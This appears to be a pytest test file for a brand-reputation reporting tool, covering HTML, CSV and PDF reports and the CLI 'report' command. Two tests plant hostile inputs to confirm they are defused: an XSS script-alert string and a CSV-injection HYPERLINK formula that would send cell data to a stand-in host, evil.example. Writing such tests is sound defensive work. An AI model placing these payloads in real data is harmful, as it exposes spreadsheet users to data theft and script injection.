"""The written report: HTML (self-contained), CSV tables, PDF, and the `veilleur report` command."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from reports import csv_export, html, output, pdf
from reports.figures import Report
from tests.conftest import write_settings
from tests.reports import fixture

SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)


@SQLITE
def test_html_is_self_contained_with_charts_sections_and_escaped_quotes(report: Report) -> None:
    text = html.render(report, "test")
    assert re.findall(r'data-chart="(\w+)"', text) == ["volume", "ratings", "monthly", "sentiment", "topics"]
    for section in (
        "levels",
        "volume",
        "sources",
        "topics",
        "weak-signals",
        "service-levels",
        "moderation",
        "products",
        "trends",
        "backlog",
    ):
        assert f'<section id="{section}">' in text
    assert not re.search(r"""(src|href)=["']https?://(?!example)""", text.split("<footer>")[0].split("<h1>")[0])
    assert "<script" not in text and "cdn" not in text.lower()
    # A lone five-star mention about no topic is no weak signal any more (issue 18): too few mentions to compare.
    assert "None this period." in text.split('<section id="weak-signals">')[1].split("</section>")[0]
    assert "idiots" not in text  # a rejected review is never quoted
    assert "Three weeks waiting for my parcel." in text
    # -16.7 now against -50 before: on 6 and 2 rated reviews, too few to compare (issue 21: no "+33" change).
    assert "NPS-like" in text and "-17" in text and "+33" not in text and "too few to compare" in text
    assert "3.26" in text and "16 h" in text  # the rejected #8 out of the average (issue 21)
    ids = re.findall(r'\bid="([^"]+)"', text)
    assert len(ids) == len(set(ids)) and len(ids) > 50  # four inline SVGs, none repeating another's ids
    references = set(re.findall(r'(?:href="#|url\(#)([^")]+)', text))
    assert references and references <= set(ids)  # each chart's links reach its own elements


@SQLITE
def test_html_escapes_review_text(loaded: tuple[sessionmaker[Session], dict[int, int]]) -> None:
    from sqlalchemy import update

    from models import Mention
    from tests.reports.conftest import make_report

    sessions, ids = loaded
    with sessions.begin() as session:
        # #3, a quoted irritant (#6, quoted as a weak signal before issue 18, no longer is).
        session.execute(update(Mention).where(Mention.id == ids[3]).values(text="<script>alert(1)</script> génial"))
    text = html.render(make_report(sessions), "test")
    assert "<script>alert(1)" not in text and "&lt;script&gt;alert(1)&lt;/script&gt; génial" in text


@SQLITE
def test_csv_tables_hold_the_figures(report: Report, tmp_path: Path) -> None:
    written = csv_export.write(report, tmp_path / "csv")
    assert sorted(p.name for p in written) == sorted(f"{name}.csv" for name in csv_export.tables(report))
    with (tmp_path / "csv" / "figures.csv").open(encoding="utf-8") as handle:
        rows = {(r["level"], r["name"], r["period"]): r for r in csv.DictReader(handle)}
    brand = rows[("brand", "all sources", "current")]
    # Issue 21: the rejected #8 is out of the ratings, counted in "rejected".
    assert (brand["mentions"], brand["rated"], brand["stars_1"], brand["stars_5"]) == ("8", "6", "1", "2")
    assert brand["rejected"] == "1"
    assert float(brand["average_rating"]) == pytest.approx(176 / 54)
    assert float(brand["median_reply_hours"]) == pytest.approx(16.0)
    assert rows[("brand", "all sources", "previous")]["nps_like"] == "-50.0"
    assert rows[("product", "P2", "current")]["average_rating"] == "1.5"
    with (tmp_path / "csv" / "topics.csv").open(encoding="utf-8") as handle:
        topics = {(r["topic"], r["period"]): r for r in csv.DictReader(handle)}
    assert (topics[("delivery", "current")]["negative"], topics[("delivery", "current")]["total"]) == ("2", "4")


def test_csv_cells_from_outside_are_never_read_as_formulas(
    loaded: tuple[sessionmaker[Session], dict[int, int]], tmp_path: Path
) -> None:
    # A review written as a spreadsheet formula ran when the marketing team opened quotes.csv (CSV injection).
    from sqlalchemy import update

    from models import Mention
    from tests.reports.conftest import make_report

    sessions, ids = loaded
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
    with sessions.begin() as session:
        session.execute(update(Mention).where(Mention.id == ids[3]).values(text=formula))
    csv_export.write(make_report(sessions), tmp_path / "csv")
    with (tmp_path / "csv" / "quotes.csv").open(encoding="utf-8") as handle:
        texts = [row["text"] for row in csv.DictReader(handle)]
    assert "'" + formula in texts and formula not in texts
    assert not any(text.startswith(csv_export.FORMULA_STARTS) for text in texts)
    # Numbers stay numbers: a negative NPS is a figure, not text to neutralise.
    assert [csv_export.cell(v) for v in (-25.0, None, "@x", "+1", "ok")] == [-25.0, "", "'@x", "'+1", "ok"]


@SQLITE
def test_pdf_has_pages_and_the_report_headings(report: Report, tmp_path: Path) -> None:
    from pypdf import PdfReader

    path = pdf.write(html.render(report, "test"), tmp_path / "report.pdf")
    assert path.stat().st_size > 10_000
    reader = PdfReader(path)
    assert len(reader.pages) >= 2
    text = "\n".join(page.extract_text() for page in reader.pages)
    for heading in (
        "Acme — reputation report",
        "Volume and ratings",
        "Topics of the customer journey",
        "Weak signals",
        "Service levels",
        "Moderation",
    ):
        assert heading in text
    assert "Three weeks waiting" in text  # a quoted irritant (the weak signal quoted before issue 18 is gone)


@SQLITE
@pytest.mark.parametrize("fmt", ["html", "csv", "pdf"])
def test_report_command_writes_each_format(
    loaded: tuple[sessionmaker[Session], dict[int, int]], database_url: str, tmp_path: Path, fmt: str
) -> None:
    from veilleur.cli import app

    body = '[[brands]]\nslug = "acme"\nname = "Acme"\n'
    settings = write_settings(tmp_path, database_url, body)
    out = tmp_path / ("out" if fmt == "csv" else f"report.{fmt}")
    result = CliRunner().invoke(
        app,
        [
            "report",
            "--brand",
            "acme",
            "--from",
            "2026-03-01",
            "--to",
            "2026-03-07",
            "--format",
            fmt,
            "--out",
            str(out),
            "--no-tag",
            "--settings",
            str(settings),
        ],
    )
    assert result.exit_code == 0, result.output
    assert f"report: {out}" in result.output.replace("\n", "")
    if fmt == "html":
        assert "Three weeks waiting for my parcel." in out.read_text(encoding="utf-8")
    elif fmt == "csv":
        assert (out / "figures.csv").read_text(encoding="utf-8").count("\n") > 4
    else:
        assert out.read_bytes().startswith(b"%PDF")


@SQLITE
def test_report_command_names_a_bad_date_and_an_unknown_brand(database_url: str, tmp_path: Path) -> None:
    from veilleur.cli import app

    settings = write_settings(tmp_path, database_url, '[[brands]]\nslug = "acme"\nname = "Acme"\n')
    bad_date = CliRunner().invoke(
        app, ["report", "--brand", "acme", "--from", "March", "--to", "2026-03-07", "--settings", str(settings)]
    )
    assert bad_date.exit_code == 2 and "--from 'March'" in bad_date.output
    unknown = CliRunner().invoke(
        app, ["report", "--brand", "nope", "--from", "2026-03-01", "--to", "2026-03-07", "--settings", str(settings)]
    )
    assert unknown.exit_code == 2 and "no brand 'nope'" in unknown.output


@SQLITE
def test_report_command_without_dates_writes_the_schedules_last_full_period(database_url: str, tmp_path: Path) -> None:
    # A marketing team asking `veilleur report --brand acme` got "Missing option '--from'": the default is now
    # what the weekly report covers, the last full Monday-to-Sunday week (or month, by [scheduler] report_hours).
    from datetime import UTC, datetime

    from reports.periods import last_full_week
    from veilleur.cli import app

    settings = write_settings(tmp_path, database_url, '[[brands]]\nslug = "acme"\nname = "Acme"\n')
    week = last_full_week(datetime.now(UTC))
    out = tmp_path / "weekly.html"
    result = CliRunner(env={"COLUMNS": "200"}).invoke(
        app, ["report", "--brand", "acme", "--out", str(out), "--no-tag", "--settings", str(settings)]
    )
    said = " ".join(result.output.split())
    assert result.exit_code == 0, said
    assert f"period: {week.start.date()} to {week.last_day.date()}, the last full week" in said
    assert f"{week.start.date()}" in out.read_text(encoding="utf-8")
    one = CliRunner().invoke(app, ["report", "--brand", "acme", "--from", "2026-03-01", "--settings", str(settings)])
    assert one.exit_code == 2 and "give both --from and --to, or neither" in one.output


@SQLITE
def test_report_command_refuses_an_out_path_it_cannot_write_before_counting(database_url: str, tmp_path: Path) -> None:
    from veilleur.cli import app

    settings = write_settings(tmp_path, database_url, '[[brands]]\nslug = "acme"\nname = "Acme"\n')
    (tmp_path / "a-file.txt").write_text("kept", encoding="utf-8")
    (tmp_path / "a-folder").mkdir()
    cases = {
        ("csv", "a-file.txt"): "is a file, and csv writes a folder of tables",
        ("html", "a-folder"): "is a folder: give a file name",
        ("pdf", "a-file.txt/report.pdf"): "is not a folder this user can write to",
    }
    for (fmt, out), message in cases.items():
        result = CliRunner(env={"COLUMNS": "200"}).invoke(
            app,
            ["report", "--brand", "acme", "--from", "2026-03-01", "--to", "2026-03-07", "--format", fmt,
             "--out", str(tmp_path / out), "--no-tag", "--settings", str(settings)],
        )  # fmt: skip
        said = " ".join(result.output.split())
        assert result.exit_code == 2 and message in said, said
        assert "Traceback" not in said
    assert (tmp_path / "a-file.txt").read_text(encoding="utf-8") == "kept"


def test_default_names_say_brand_and_days() -> None:
    assert output.default_name("acme", fixture.START, fixture.END, "html") == "acme-2026-03-01-2026-03-07.html"
    assert output.default_name("acme", fixture.START, fixture.END, "csv") == "acme-2026-03-01-2026-03-07"
